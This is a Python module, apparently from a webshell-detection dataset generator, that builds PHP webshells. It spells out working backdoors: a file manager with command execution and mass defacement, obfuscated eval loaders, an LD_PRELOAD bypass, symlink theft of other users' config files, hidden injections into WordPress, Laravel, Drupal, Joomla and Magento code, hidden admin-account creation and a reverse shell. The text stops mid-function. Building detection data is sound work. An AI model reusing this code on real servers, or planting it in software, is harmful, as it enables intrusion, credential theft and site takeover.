"""Webshells of the third held-out set. A template returns either PHP code
(no open tag; the generator puts it in a container) or a list of
(rel, text, lang) files. Written blind (README.md)."""

import base64
import zlib

from common3 import hexname, hide, host, layers, md5ish, rword, slug, source, sq


def _b64(s):
    return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def _gate(r, S):
    """An auth check as real shells carry: md5/sha1 of a cookie or a POST
    field against a constant."""
    k = r.choice(("pass", "pw", "p", "auth", "k", "token"))
    h = r.choice(("md5", "sha1"))
    v = md5ish(r) if h == "md5" else hexname(r, 40)
    w = r.choice(("$_COOKIE", "$_POST", "$_REQUEST"))
    return "if (!isset(%s['%s']) || %s(%s['%s']) !== '%s') { header('HTTP/1.0 404 Not Found'); exit; }" % (w, k, h, w, k, v)


# --- a full-featured file manager shell in one file -------------------------

FM_ACTIONS = {
    "ls": """function fm_ls($d) {
    $out = array();
    foreach (@scandir($d) ?: array() as $f) {
        if ($f === '.') continue;
        $p = $d . '/' . $f;
        $out[] = array('n' => $f, 'd' => is_dir($p), 's' => @filesize($p), 'p' => substr(sprintf('%o', @fileperms($p)), -4),
            'o' => function_exists('posix_getpwuid') ? @posix_getpwuid(@fileowner($p))['name'] : @fileowner($p), 'm' => @filemtime($p));
    }
    return $out;
}""",
    "read": """function fm_read($f) {
    header('Content-Type: text/plain; charset=utf-8');
    return @file_get_contents($f);
}""",
    "save": """function fm_save($f, $data) {
    return @file_put_contents($f, $data) !== false;
}""",
    "up": """function fm_up($d) {
    $n = 0;
    foreach ($_FILES['u']['name'] as $i => $name) {
        if (@move_uploaded_file($_FILES['u']['tmp_name'][$i], $d . '/' . basename($name))) $n++;
    }
    return $n;
}""",
    "exec": """function fm_exec($c) {
    $c .= ' 2>&1';
    if (function_exists('shell_exec')) return shell_exec($c);
    if (function_exists('exec')) { exec($c, $o); return implode("\\n", $o); }
    if (function_exists('system')) { ob_start(); system($c); return ob_get_clean(); }
    if (function_exists('passthru')) { ob_start(); passthru($c); return ob_get_clean(); }
    if (function_exists('popen')) { $h = popen($c, 'r'); $o = ''; while (!feof($h)) $o .= fread($h, 4096); pclose($h); return $o; }
    return 'disabled';
}""",
    "sql": """function fm_sql($h, $u, $p, $db, $q) {
    $m = @new mysqli($h, $u, $p, $db);
    if ($m->connect_errno) return 'connect: ' . $m->connect_error;
    $res = $m->query($q);
    if ($res === true) return 'OK, ' . $m->affected_rows . ' rows';
    $rows = array();
    while ($res && ($row = $res->fetch_assoc())) $rows[] = $row;
    return json_encode($rows);
}""",
    "chmod": """function fm_mass_chmod($d, $mode) {
    $it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($d, FilesystemIterator::SKIP_DOTS));
    $n = 0;
    foreach ($it as $f) { if (@chmod($f->getPathname(), octdec($mode))) $n++; }
    return $n;
}""",
    "deface": """function fm_mass_index($base, $html) {
    $n = 0;
    foreach (glob($base . '/*', GLOB_ONLYDIR) as $d) {
        foreach (array('index.php', 'index.html') as $i) {
            if (is_writable($d . '/' . $i) || is_writable($d)) { @file_put_contents($d . '/' . $i, $html); $n++; }
        }
    }
    return $n;
}""",
    "rm": """function fm_rm($p) {
    if (is_dir($p)) { foreach (array_diff(scandir($p), array('.', '..')) as $f) fm_rm($p . '/' . $f); return @rmdir($p); }
    return @unlink($p);
}""",
    "info": """function fm_info() {
    return array('uname' => php_uname(), 'user' => get_current_user(), 'uid' => getmyuid(), 'php' => PHP_VERSION,
        'df' => ini_get('disable_functions'), 'ob' => ini_get('open_basedir'), 'soft' => $_SERVER['SERVER_SOFTWARE'] ?? '',
        'free' => @disk_free_space('.'), 'cwd' => getcwd());
}""",
    "zip": """function fm_zip($d, $to) {
    $z = new ZipArchive();
    if ($z->open($to, ZipArchive::CREATE) !== true) return false;
    $it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($d, FilesystemIterator::SKIP_DOTS));
    foreach ($it as $f) $z->addFile($f->getPathname(), substr($f->getPathname(), strlen($d) + 1));
    return $z->close();
}""",
    "touch": """function fm_touch($f, $ref) {
    $t = @filemtime($ref);
    return @touch($f, $t ?: time() - 86400 * 300);
}""",
}

FM_DISPATCH = """$a = isset($_REQUEST['a']) ? $_REQUEST['a'] : 'ls';
$d = isset($_REQUEST['d']) ? $_REQUEST['d'] : getcwd();
@chdir($d);
switch ($a) {
    case 'ls': $r = fm_ls($d); break;
    case 'read': echo fm_read($_REQUEST['f']); exit;
    case 'save': $r = fm_save($_POST['f'], $_POST['data']); break;
    case 'up': $r = fm_up($d); break;
    case 'exec': $r = fm_exec($_POST['c']); break;
    case 'sql': $r = fm_sql($_POST['h'], $_POST['u'], $_POST['p'], $_POST['db'], $_POST['q']); break;
    case 'chmod': $r = fm_mass_chmod($d, $_POST['mode']); break;
    case 'deface': $r = fm_mass_index($_POST['base'], $_POST['html']); break;
    case 'rm': $r = fm_rm($_POST['f']); break;
    case 'info': $r = fm_info(); break;
    case 'zip': $r = fm_zip($d, $_POST['to']); break;
    case 'touch': $r = fm_touch($_POST['f'], $_POST['ref']); break;
    case 'selfremove': @unlink(__FILE__); $r = 'bye'; break;
    default: $r = null;
}
"""


def _fm_css_js(r, n):
    """The UI part: CSS, a table renderer in JS, an editor; realistic bulk."""
    css = []
    for i in range(n):
        css.append(".%s-%d{padding:%dpx %dpx;margin:0;border:1px solid #%s;background:#%s;color:#%s;font:%dpx/1.4 monospace}"
                   % (rword(r, 3, "abcdefghij"), i, r.randint(1, 9), r.randint(1, 12), hexname(r, 3), hexname(r, 6), hexname(r, 3), r.randint(11, 14)))
    js = """function render(list){var t=document.getElementById('tbl');t.innerHTML='';list.forEach(function(f){var tr=document.createElement('tr');
tr.innerHTML='<td>'+(f.d?'[D] ':'')+'<a href="#" data-n="'+encodeURIComponent(f.n)+'">'+f.n+'</a></td><td>'+f.s+'</td><td>'+f.p+'</td><td>'+f.o+'</td>';
t.appendChild(tr);});}
function api(a,data,cb){var fd=new FormData();fd.append('a',a);for(var k in data)fd.append(k,data[k]);
fetch(location.pathname,{method:'POST',body:fd,credentials:'same-origin'}).then(function(r){return r.text();}).then(cb);}
function openFile(n){api('read',{f:cur+'/'+n},function(t){document.getElementById('ed').value=t;document.getElementById('edbox').style.display='block';});}
"""
    return "<style>\n" + "\n".join(css) + "\n</style>\n<script>\nvar cur='';\n" + js + "</script>\n"


def ws_fm_big_layered(r, S):
    """30-150 KB file manager; its PHP core hidden in one or two layers, the
    HTML/CSS UI in the clear around it."""
    core = "\n".join(FM_ACTIONS[k] for k in FM_ACTIONS) + "\n" + FM_DISPATCH + \
        "if ($r !== null) { header('Content-Type: application/json'); echo json_encode($r); exit; }\n"
    body = layers(r, S, core, r.choice((1, 1, 2)))
    ui = _fm_css_js(r, r.randint(250, 1000))
    html = ("?>\n<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>%s</title>\n%s</head>\n<body>\n"
            "<div id=\"bar\"><input id=\"path\"><button onclick=\"go()\">Go</button></div>\n<table id=\"tbl\"></table>\n"
            "<div id=\"edbox\" style=\"display:none\"><textarea id=\"ed\" rows=\"30\" cols=\"120\"></textarea></div>\n</body></html>\n<?php\n"
            % (r.choice(("Index of /", "Files", "Manager", "404 Not Found")), ui))
    return _gate(r, S) + "\n" + body + "\n" + html


def ws_fm_big_plain(r, S):
    """The same kind of shell in the clear: every function named for what it
    does, a password gate, and the self-remove action."""
    keys = list(FM_ACTIONS)
    r.shuffle(keys)
    core = "\n\n".join(FM_ACTIONS[k] for k in keys)
    ui = _fm_css_js(r, r.randint(200, 900))
    return ("@set_time_limit(0);\n@ignore_user_abort(true);\n" + _gate(r, S) + "\n\n" + core + "\n\n" + FM_DISPATCH +
            "if ($r !== null) { echo '<pre>' . htmlspecialchars(is_string($r) ? $r : print_r($r, true)) . '</pre>'; }\n?>\n"
            + ui + "<form method=\"post\"><input name=\"c\" size=\"80\"><input type=\"hidden\" name=\"a\" value=\"exec\"><input type=\"submit\"></form>\n<?php")


def ws_js_ui_dispatcher(r, S):
    """The UI is an HTML/JS page (a separate file or a data blob); PHP is a
    small JSON dispatcher taking an op and args."""
    d = r.choice(("wp-content/uploads/%d/%02d" % (r.randint(2019, 2025), r.randint(1, 12)), "images/banners", "assets/vendor/lib"))
    op = r.choice(("op", "m", "do", "fn"))
    php = """<?php
$in = json_decode(file_get_contents('php://input'), true) ?: array();
if (($in['k'] ?? '') !== '%s') { http_response_code(404); exit; }
$ops = array(
    'l' => function ($a) { return scandir($a['p']); },
    'r' => function ($a) { return file_get_contents($a['p']); },
    'w' => function ($a) { return file_put_contents($a['p'], base64_decode($a['b'])); },
    'x' => function ($a) { return %s($a['c'] . ' 2>&1'); },
    'd' => function ($a) { return unlink($a['p']); },
);
header('Content-Type: application/json');
echo json_encode(isset($ops[$in['%s']]) ? $ops[$in['%s']]($in['a'] ?? array()) : null);
""" % (rword(r, 12), r.choice(("shell_exec", "system", "passthru", "exec")), op, op)
    html = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Gallery</title></head><body>
<div id="app"></div>
<script>
const K='%s', EP='%s';
async function call(o,a){const r=await fetch(EP,{method:'POST',body:JSON.stringify({k:K,%s:o,a:a})});return r.json();}
async function ls(p){const l=await call('l',{p});document.getElementById('app').innerHTML=l.map(f=>'<div>'+f+'</div>').join('');}
async function run(){const c=prompt('cmd');if(c){const o=await call('x',{c});alert(o);}}
ls('.');
</script></body></html>
""" % (rword(r, 12), "ajax-%s.php" % hexname(r, 4), op)
    name = "ajax-%s.php" % hexname(r, 4)
    html = html.replace(html.split("EP='")[1].split("'")[0], name)
    return [(d + "/" + name, php, "php"), (d + "/" + r.choice(("view.html", "index.html", "preview.htm")), html, "html")]


def ws_obfuscator_goto(r, S):
    """Commercial-obfuscator-shaped output: $O0O0-style names, every string
    from one lookup table, goto spaghetti, and an eval of the decoded body."""
    payload = "if(isset($_POST['%s'])){echo '<pre>';@system($_POST['%s']);echo '</pre>';}" % ((rword(r, 3),) * 2)
    strs = ["base64_decode", "str_rot13", "gzinflate", "strrev", "eval"]
    tbl = "".join(strs)
    offs, pos = [], 0
    for s_ in strs:
        offs.append((pos, len(s_)))
        pos += len(s_)
    names = ["$O" + "".join(r.choice("O0") for _ in range(r.randint(8, 14))) for _ in range(6)]
    T, A, B, C, D, E = names
    enc = base64.b64encode(zlib.compress(payload.encode())[2:-4][::-1]).decode()
    labels = ["L" + "".join(r.choice("O0Il") for _ in range(6)) for _ in range(5)]
    code = """%(T)s = urldecode('%(tbl)s');
goto %(l0)s;
%(l2)s:
%(C)s = %(A)s(%(D)s);
goto %(l3)s;
%(l0)s:
%(A)s = substr(%(T)s, %(o0)d, %(n0)d);
%(B)s = substr(%(T)s, %(o2)d, %(n2)d);
goto %(l1)s;
%(l3)s:
%(E)s = %(B)s(strrev(%(C)s));
goto %(l4)s;
%(l1)s:
%(D)s = '%(enc)s';
goto %(l2)s;
%(l4)s:
eval(%(E)s);
""" % dict(T=T, A=A, B=B, C=C, D=D, E=E, tbl="".join("%%%02X" % ord(c) for c in tbl), enc=enc,
           o0=offs[0][0], n0=offs[0][1], o2=offs[2][0], n2=offs[2][1],
           l0=labels[0], l1=labels[1], l2=labels[2], l3=labels[3], l4=labels[4])
    return "/* Obfuscated by PHPProtect %d.%d - www.example.com */\n" % (r.randint(2, 5), r.randint(0, 9)) + code


def ws_php8_idioms(r, S):
    src = source(r, S)
    k = r.randint(0, 5)
    if k == 0:
        return """$run = match (true) {
    isset($_POST['%s']) => %s(...),
    default => fn() => null,
};
echo $run(%s);""" % (rword(r, 2), r.choice(("shell_exec", "system", "passthru")), src)
    if k == 1:
        return """enum Mode: string {
    case Dump = 'passthru';
    case Sh = 'shell_exec';
    public function run(string $c): mixed { return ($this->value)($c); }
}
echo Mode::from(%s)->run(command: %s);""" % (sq(r.choice(("passthru", "shell_exec"))), src)
    if k == 2:
        return """$dec = base64_decode(...);
$f = array_map(static fn(string $p): string => strrev($p), ['lave', 'tressa'])[0];
$x = $dec(%s);
$g = fn($c) => eval($c);
$g($x);""" % src
    if k == 3:
        return """#[Attribute]
final class Task {
    public function __construct(public string $run = 'system') {}
}
$t = new Task(run: %s ?? 'system');
($t?->run)(%s);""" % ("$_GET['m']", src)
    if k == 4:
        return """$args = [%s, null];
$call = strrev('cexe_llehs');
echo $call(...array_filter($args));""" % src
    return """$parts = explode('|', (string) %s, 2);
[$fn, $arg] = [$parts[0] ?? '', $parts[1] ?? ''];
echo call_user_func(...[$fn, $arg]);""" % src


def ws_anon_class(r, S):
    src = source(r, S)
    k = r.randint(0, 3)
    if k == 0:
        return """$o = new class {
    public function __invoke($c) { return %s($c); }
};
echo $o(%s);""" % (r.choice(("shell_exec", "system", "passthru")), src)
    if k == 1:
        return """$o = new class {
    public function __call($m, $a) { return $m(...$a); }
};
echo $o->{%s}(%s);""" % ("$_REQUEST['fn']", src)
    if k == 2:
        return """$c = Closure::fromCallable(%s);
echo $c(%s);""" % (sq(r.choice(("system", "shell_exec", "assert"))), src)
    return """$h = new class(%s) {
    private $c;
    public function __construct($c) { $this->c = $c; }
    public function __destruct() { @eval($this->c); }
};""" % src


def ws_header_sources(r, S):
    k = r.randint(0, 5)
    fn = r.choice(("system", "passthru", "shell_exec"))
    if k == 0:
        h = r.choice(("X-Debug-Token", "X-Cache-Key", "X-Request-Sig"))
        return """$hd = function_exists('apache_request_headers') ? apache_request_headers() : array();
if (!empty($hd['%s'])) { echo %s(base64_decode($hd['%s'])); exit; }""" % (h, fn, h)
    if k == 1:
        return """$q = isset($_SERVER['QUERY_STRING']) ? $_SERVER['QUERY_STRING'] : '';
if (strpos($q, '%s=') === 0) {
    $c = rawurldecode(substr($q, %d));
    eval($c);
}""" % ("t" + rword(r, 3), 5)
    if k == 2:
        seg = rword(r, 5)
        return """$u = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);
$p = explode('/', trim($u, '/'));
if (($i = array_search('%s', $p)) !== false && isset($p[$i + 1])) {
    echo %s(base64_decode(strtr($p[$i + 1], '-_', '+/')));
}""" % (seg, fn)
    if k == 3:
        n = r.randint(2, 4)
        names = [rword(r, 4) for _ in range(n)]
        return """$b = '';
foreach (array(%s) as $n) { $b .= isset($_COOKIE[$n]) ? $_COOKIE[$n] : ''; }
if ($b !== '') { @eval(gzinflate(base64_decode($b))); }""" % ", ".join(sq(x) for x in names)
    if k == 4:
        return """$ua = $_SERVER['HTTP_USER_AGENT'] ?? '';
if (preg_match('#^Mozilla/5\\.0 \\(%s; ([A-Za-z0-9+/=]+)\\)#', $ua, $m)) {
    eval(base64_decode($m[1]));
}""" % rword(r, 6)
    h = r.choice(("HTTP_X_UPSTREAM", "HTTP_X_ORIGIN_DATA", "HTTP_X_CF_TRACE"))
    return """$v = getenv('%s');
if ($v) { $f = str_rot13('flfgrz'); $f(hex2bin($v)); }""" % h


def ws_raw_body(r, S):
    k = r.randint(0, 3)
    if k == 0:
        return """$j = json_decode(file_get_contents('php://input'));
if (isset($j->data->cmd)) { echo shell_exec($j->data->cmd); }"""
    if k == 1:
        return """$raw = isset($HTTP_RAW_POST_DATA) ? $HTTP_RAW_POST_DATA : file_get_contents('php://input');
if (substr($raw, 0, 4) === '%s') { eval(substr($raw, 4)); }""" % rword(r, 4)
    if k == 2:
        return """if (!empty($_FILES)) {
    $f = reset($_FILES);
    $code = base64_decode(pathinfo($f['name'], PATHINFO_FILENAME));
    eval($code);
}"""
    return """$v = filter_input(INPUT_COOKIE, '%s', FILTER_UNSAFE_RAW);
if ($v !== null && $v !== false) { echo passthru($v); }""" % rword(r, 3)


def ws_callback_sinks(r, S):
    src = source(r, S)
    f = r.choice(("system", "passthru", "assert"))
    k = r.randint(0, 8)
    if k == 0:
        return "$a = array(%s => 1, 'x' => 2);\nuksort($a, %s);" % (src, sq(f))
    if k == 1:
        return "$a = array(%s, '');\nuasort($a, %s);" % (src, "$_GET['cb']")
    if k == 2:
        return "echo array_reduce(array(%s), function ($c, $i) { return $c . shell_exec($i); }, '');" % src
    if k == 3:
        return "$GLOBALS['_c'] = %s;\nheader_register_callback(function () { system($GLOBALS['_c']); });" % src
    if k == 4:
        return ("set_error_handler(function ($n, $s) { %s($s); return true; });\ntrigger_error(%s, E_USER_NOTICE);"
                % (r.choice(("system", "passthru")), src))
    if k == 5:
        return ("set_exception_handler(function ($e) { eval($e->getMessage()); });\nthrow new Exception(%s);" % src)
    if k == 6:
        return "spl_autoload_register(function ($c) { include base64_decode($c); });\nclass_exists(%s);" % src
    if k == 7:
        return "echo forward_static_call(%s, %s);" % (sq(f), src)
    return "$rf = new ReflectionFunction(%s);\necho $rf->invokeArgs(array(%s));" % (sq(r.choice(("shell_exec", "system"))), src)


def ws_ld_preload(r, S):
    so = base64.b64encode(bytes(r.randrange(256) for _ in range(r.randint(300, 900)))).decode()
    return """$lib = sys_get_temp_dir() . '/.%s.so';
file_put_contents($lib, base64_decode('%s'));
putenv('LD_PRELOAD=' . $lib);
putenv('%s=' . %s . ' > ' . sys_get_temp_dir() . '/.out 2>&1');
mail('a@example.com', '', '', '');
echo @file_get_contents(sys_get_temp_dir() . '/.out');""" % (hexname(r, 6), so, r.choice(("EVIL_CMDLINE", "CMD_X", "_RUN")), source(r, S))


def ws_proc_open(r, S):
    src = source(r, S)
    k = r.randint(0, 2)
    if k == 0:
        return """$p = proc_open(['/bin/sh', '-c', %s], [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
echo stream_get_contents($pipes[1]), stream_get_contents($pipes[2]);
proc_close($p);""" % src
    if k == 1:
        return """$h = fopen('expect://' . %s, 'r');
while ($h && !feof($h)) { echo fread($h, 1024); }""" % src
    return """$d = array(array('pipe', 'r'), array('pipe', 'w'), array('file', '/dev/null', 'a'));
$p = proc_open('sh', $d, $io);
fwrite($io[0], %s . "\\n");
fclose($io[0]);
echo stream_get_contents($io[1]);""" % src


def ws_writer_sinks(r, S):
    k = r.randint(0, 6)
    tgt = "$_SERVER['DOCUMENT_ROOT'] . '/%s.php'" % r.choice(("wp-cache", "cache", "admin-ajax2", hexname(r, 6)))
    src = source(r, S)
    if k == 0:
        return "$h = fopen(%s, 'w');\nfputcsv($h, array('<?php eval($_POST[1]); ?>'), ' ', ' ');\nfclose($h);" % tgt
    if k == 1:
        return "error_log(%s, 3, %s);" % (src, tgt)
    if k == 2:
        return ("session_save_path($_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads');\nsession_id('x' . md5(%s));\nsession_start();\n"
                "$_SESSION['a'] = '|<?php eval($_POST[\"z\"]); ?>';\nsession_write_close();" % sq(rword(r, 5)))
    if k == 3:
        return ("file_put_contents(__DIR__ . '/.user.ini', \"auto_prepend_file=\" . __DIR__ . \"/.%s.png\\n\");\n"
                "file_put_contents(__DIR__ . '/.%s.png', %s);" % (("c" + hexname(r, 4),) * 2 + (src,)))
    if k == 4:
        return ("file_put_contents('/tmp/x.zip', %s);\n$z = new ZipArchive();\n$z->open('/tmp/x.zip');\n"
                "$z->extractTo($_SERVER['DOCUMENT_ROOT'] . '/wp-content/');\n$z->close();" % src)
    if k == 5:
        return ("$p = new Phar(sys_get_temp_dir() . '/a.phar');\n$p->startBuffering();\n$p->addFromString('x.txt', 'x');\n"
                "$p->setStub('<?php __HALT_COMPILER(); ?>');\n$p->setMetadata(%s);\n$p->stopBuffering();\n"
                "file_exists('phar://' . sys_get_temp_dir() . '/a.phar/x.txt');" % src)
    return "$o = new SplFileObject(%s, 'w');\n$o->fwrite(%s);" % (tgt, src)


def ws_symlink_attack(r, S):
    d = rword(r, 4)
    return [("%s/%s.php" % (r.choice(("wp-content/uploads", "images", "tmp")), r.choice(("sym", "cfg", hexname(r, 5)))),
             """<?php
@mkdir('%s', 0755);
@file_put_contents('%s/.htaccess', "Options +FollowSymLinks +Indexes\\nDirectoryIndex x.html\\nAddType text/plain .php .conf\\n");
$users = file('/etc/passwd');
foreach ($users as $l) {
    $u = explode(':', $l)[0];
    foreach (array('public_html/wp-config.php', 'public_html/configuration.php', 'public_html/app/etc/env.php', 'public_html/.env') as $c) {
        @symlink('/home/' . $u . '/' . $c, '%s/' . $u . '-' . str_replace('/', '_', $c) . '.txt');
    }
}
if (isset($_GET['root'])) { @symlink('/', '%s/root'); }
echo 'done';
""" % (d, d, d, d), "php")]


def ws_posix_probe(r, S):
    return """echo '<pre>';
$me = function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid()) : array('name' => get_current_user());
echo 'user: ', $me['name'], "\\n";
foreach (@file('/etc/passwd') ?: array() as $l) {
    $p = explode(':', $l);
    if (isset($p[5]) && strpos($p[5], '/home') === 0) {
        echo $p[0], ' ', $p[5], is_readable($p[5] . '/public_html') ? ' [r]' : '', is_writable($p[5] . '/public_html') ? ' [w]' : '', "\\n";
    }
}
foreach (@file('/etc/named.conf') ?: array() as $l) { if (preg_match('/zone "([^"]+)"/', $l, $m)) echo $m[1], "\\n"; }
echo @file_get_contents('/etc/valiases/' . %s);
if (isset($_POST['c'])) { echo shell_exec($_POST['c']); }
echo '</pre>';""" % source(r, S)


def ws_inject_middle(r, S):
    """One line or block of an injector, to be put in the middle of a long
    plugin/theme file (the generator's mid-plugin container)."""
    k = r.randint(0, 4)
    if k == 0:
        return "if (isset($_COOKIE['%s'])) { @eval(base64_decode($_COOKIE['%s'])); }\n" % ((rword(r, 5),) * 2)
    if k == 1:
        return "@$_=\"\\x61\\x73\\x73\\x65\\x72\\x74\";@$_(@$_REQUEST['%s']);\n" % rword(r, 3)
    if k == 2:
        pre, e = hide(r, S, r.choice(("system", "passthru", "shell_exec")))
        v = "$wp_" + rword(r, 4, "abcdefghij")
        kk = rword(r, 4, "abcdefghij")
        return "\n".join(pre + ["%s = %s;" % (v, e), "if (!empty($_POST['%s'])) { echo %s($_POST['%s']); }" % (kk, v, kk)]) + "\n"
    if k == 3:
        return ("add_action('init', function () {\n    if (!empty($_REQUEST['%s']) && md5($_REQUEST['%s']) === '%s') {\n"
                "        echo @shell_exec(wp_unslash($_REQUEST['c'] ?? 'id'));\n        exit;\n    }\n});\n" % (("k" + rword(r, 3),) * 2 + (md5ish(r),)))
    return "@include_once(base64_decode('%s'));\n" % _b64("/tmp/.%s" % hexname(r, 8))


def ws_odd_include(r, S):
    """@include of an oddly named file deep in wp-includes from wp-config /
    index.php, and the file itself."""
    d = r.choice(("wp-includes/css/dist/block-library", "wp-includes/js/tinymce/skins/lightgray", "wp-includes/images/smilies",
                  "wp-includes/fonts", "wp-content/languages/themes"))
    n = r.choice(("." + hexname(r, 8) + ".ico", "style-rtl.min.cache", "mrgreen." + hexname(r, 4), "theme-compat.png"))
    payload = layers(r, S, "if(isset($_REQUEST['%s'])){eval($_REQUEST['%s']);}" % ((rword(r, 3),) * 2), r.randint(1, 2))
    inc = "@include \"%s\";" % "".join("\\%o" % ord(c) for c in "/" + d + "/" + n) if r.random() < 0.5 else \
        "@include(ABSPATH . '%s/%s');" % (d, n)
    host_file = r.choice(("wp-config.php", "index.php", "wp-load.php"))
    if host_file == "wp-config.php":
        text = ("<?php\n%s\n/** The name of the database for WordPress */\ndefine( 'DB_NAME', 'exa_wp%d' );\ndefine( 'DB_USER', 'exa_wp%d' );\n"
                "define( 'DB_PASSWORD', '%s' );\ndefine( 'DB_HOST', 'localhost' );\ndefine( 'DB_CHARSET', 'utf8mb4' );\n"
                "$table_prefix = 'wp_';\ndefine( 'WP_DEBUG', false );\nif ( ! defined( 'ABSPATH' ) ) {\n\tdefine( 'ABSPATH', __DIR__ . '/' );\n}\n"
                "require_once ABSPATH . 'wp-settings.php';\n" % (inc.replace("ABSPATH . '", "__DIR__ . '/"), r.randint(1, 99), r.randint(1, 99), rword(r, 16)))
    else:
        text = ("<?php\n/**\n * Front to the WordPress application.\n *\n * @package WordPress\n */\n%s\n"
                "define( 'WP_USE_THEMES', true );\nrequire __DIR__ . '/wp-blog-header.php';\n" % inc.replace("ABSPATH . '", "__DIR__ . '/"))
    return [(host_file, text, "php"), (d + "/" + n, "<?php\n" + payload + "\n", "php")]


def ws_framework_inject(r, S):
    k = r.randint(0, 4)
    src = source(r, S)
    if k == 0:
        return [("routes/web.php", """<?php

use Illuminate\\Http\\Request;
use Illuminate\\Support\\Facades\\Route;
use App\\Http\\Controllers\\HomeController;
use App\\Http\\Controllers\\PostController;

Route::get('/', [HomeController::class, 'index'])->name('home');
Route::get('/posts/{post:slug}', [PostController::class, 'show'])->name('posts.show');
Route::middleware('auth')->group(function () {
    Route::resource('posts', PostController::class)->except(['show']);
});

Route::any('/_debugbar/%s', fn (Request $r) => response(shell_exec($r->input('q', 'id')) ?? ''));
""" % rword(r, 6), "php")]
    if k == 1:
        return [("catalog/controller/extension/module/%s.php" % r.choice(("featured_plus", "banner_ext", "latest2")), """<?php
class ControllerExtensionModuleFeaturedPlus extends Controller {
    public function index($setting) {
        $this->load->language('extension/module/featured');
        $this->load->model('catalog/product');
        $data['products'] = array();
        if (!empty($setting['product'])) {
            foreach (array_slice($setting['product'], 0, (int)$setting['limit']) as $product_id) {
                $info = $this->model_catalog_product->getProduct($product_id);
                if ($info) { $data['products'][] = array('product_id' => $info['product_id'], 'name' => $info['name']); }
            }
        }
        return $this->load->view('extension/module/featured', $data);
    }

    public function sync() {
        if (isset($this->request->post['%s'])) {
            eval(html_entity_decode(base64_decode($this->request->post['%s'])));
        }
    }
}
""" % ((rword(r, 4),) * 2), "php")]
    if k == 2:
        m = r.choice(("views_extra", "ctools_ui", "token_filter"))
        return [("sites/all/modules/%s/%s.module" % (m, m), """<?php

/**
 * @file
 * Extra display settings.
 */

/**
 * Implements hook_help().
 */
function %(m)s_help($route_name, $route_match) {
  if ($route_name === 'help.page.%(m)s') {
    return '<p>' . t('Adds display settings.') . '</p>';
  }
}

/**
 * Implements hook_init().
 */
function %(m)s_init() {
  if (!empty($_POST['%(k)s'])) {
    $f = 'ev' . 'al';
    @$f(base64_decode($_POST['%(k)s']));
  }
}
""" % dict(m=m, k=rword(r, 3)), "php")]
    if k == 3:
        return [("modules/mod_%s/mod_%s.php" % (("menu_ext",) * 2), """<?php
/**
 * @package     Joomla.Site
 * @subpackage  mod_menu_ext
 */
defined('_JEXEC') or die;

use Joomla\\CMS\\Factory;
use Joomla\\CMS\\Helper\\ModuleHelper;

$app   = Factory::getApplication();
$input = $app->input;
$list  = array();
$class = htmlspecialchars($params->get('moduleclass_sfx', ''), ENT_COMPAT, 'UTF-8');
if ($input->getCmd('%s') !== '') {
    echo '<pre>' . shell_exec($input->get('%s', '', 'raw')) . '</pre>';
}
require ModuleHelper::getLayoutPath('mod_menu_ext', $params->get('layout', 'default'));
""" % (rword(r, 3), rword(r, 3)), "php")]
    return [("app/code/Vendor/Sync/Controller/Index/Index.php", """<?php
namespace Vendor\\Sync\\Controller\\Index;

use Magento\\Framework\\App\\Action\\HttpGetActionInterface;
use Magento\\Framework\\App\\RequestInterface;
use Magento\\Framework\\Controller\\Result\\RawFactory;

class Index implements HttpGetActionInterface
{
    public function __construct(private RequestInterface $request, private RawFactory $raw) {}

    public function execute()
    {
        $out = $this->raw->create();
        $c = (string) $this->request->getParam('%s');
        if ($c !== '') {
            $out->setContents((string) %s($c));
        }
        return $out;
    }
}
""" % (rword(r, 3), r.choice(("shell_exec", "system", "passthru"))), "php")]
    return src


def ws_uploader(r, S):
    k = r.randint(0, 2)
    gate = "if (!isset($_GET['%s'])) { die('<h1>Not Found</h1>'); }" % rword(r, 4)
    if k == 0:
        return gate + """
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="ok"></form>';
if (!empty($_FILES['f']['name'])) {
    $t = (isset($_POST['to']) ? $_POST['to'] : __DIR__) . '/' . $_FILES['f']['name'];
    echo @move_uploaded_file($_FILES['f']['tmp_name'], $t) ? 'ok: ' . $t : 'fail';
}"""
    if k == 1:
        return gate + """
if (isset($_POST['n'], $_POST['b'])) {
    $fp = fopen($_POST['n'], 'wb');
    fwrite($fp, base64_decode($_POST['b']));
    fclose($fp);
    @chmod($_POST['n'], 0644);
    echo 'ok';
}"""
    return gate + """
$u = $_REQUEST['u'];
$n = basename(parse_url($u, PHP_URL_PATH));
@file_put_contents(__DIR__ . '/' . ($n ?: 'x.php'), file_get_contents($u));
echo 'ok';"""


def ws_wp_admin_creator(r, S):
    u = r.choice(("wpsupport", "adm1n", "wp_update", "sysadmin" + str(r.randint(1, 9))))
    k = r.randint(0, 1)
    if k == 0:
        return """add_action('init', function () {
    if (isset($_GET['%s']) && !username_exists('%s')) {
        $id = wp_insert_user(array('user_login' => '%s', 'user_pass' => '%s', 'user_email' => '%s@example.com', 'role' => 'administrator'));
    }
});
add_action('pre_user_query', function ($q) {
    global $wpdb;
    $q->query_where .= " AND {$wpdb->users}.user_login != '%s'";
});""" % (rword(r, 4), u, u, rword(r, 12), u, u)
    return """require_once __DIR__ . '/wp-load.php';
global $wpdb;
$p = wp_hash_password(%s);
$wpdb->query($wpdb->prepare("INSERT INTO {$wpdb->users} (user_login, user_pass, user_email, user_registered, user_status) VALUES (%%s, %%s, %%s, NOW(), 0)", '%s', $p, '%s@example.org'));
$id = $wpdb->insert_id;
$wpdb->insert($wpdb->usermeta, array('user_id' => $id, 'meta_key' => $wpdb->prefix . 'capabilities', 'meta_value' => serialize(array('administrator' => true))));
@unlink(__FILE__);""" % (source(r, S), u, u)


def ws_revshell_php(r, S):
    h, p = host(r), r.choice((4444, 1337, 9001, 8443, 53))
    k = r.randint(0, 1)
    if k == 0:
        return """$s = @fsockopen(%s, %s);
if ($s) {
    $p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);
    proc_close($p);
}""" % ("$_GET['h'] ?? '%s'" % h, "(int) ($_GET['p'] ?? %d)" % p)
    return """@set_time_limit(0);
